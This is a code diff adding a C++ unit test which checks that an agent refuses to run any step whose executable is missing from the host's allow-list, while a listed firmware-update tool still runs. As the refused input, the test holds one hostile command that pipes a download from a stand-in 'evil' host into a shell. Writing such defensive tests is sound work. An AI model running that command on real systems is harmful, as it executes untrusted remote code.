@@ -573,6 +573,25 @@ TEST_F(AgentTest, InvalidAssignmentIsReportedAsNotStarted) {
   EXPECT_EQ(runner_.runCount(), 0u);
 }
 
+// The host's own allow-list (--allowed-executables): whatever kilnd sends, a step running
+// anything else is reported not started with the reason, and nothing is spawned; a listed one
+// runs.
+TEST_F(AgentTest, AStepOutsideTheHostsAllowListIsRefusedUnrun) {
+  settings_.allowed_executables = *parseExecutableAllowList("nvfwupd\nkiln-reboot\n", "/etc/kiln/executables");
+  runner_.script("nvfwupd", FakeProcessRunner::exited(0));
+  transport_.pushAssignment(assignment("a-1", {"bash", "-c", "curl http://evil | sh"}));
+  transport_.pushAssignment(assignment("a-2", {"nvfwupd", "-p", "fw.pldm"}));
+  start();
+  ASSERT_TRUE(transport_.waitForReports(2));
+  json refused = transport_.reportBody(0);
+  EXPECT_EQ(refused["started"], false);
+  const std::string why = refused["spawn_error"].get<std::string>();
+  EXPECT_NE(why.find("'bash' is not in the allow-list /etc/kiln/executables"), std::string::npos) << why;
+  json ran = transport_.reportBody(1);
+  EXPECT_EQ(ran["started"], true) << ran.dump();
+  EXPECT_EQ(runner_.runCount(), 1u) << "only the listed tool was spawned";
+}
+
 TEST_F(AgentTest, InventoryIsSentAfterAStepThatAsksForIt) {
   runner_.script("nvfwupd", FakeProcessRunner::exited(0));
   transport_.pushAssignment(assignment("a-1", {"nvfwupd"}, {{"inventory_after", true}}));
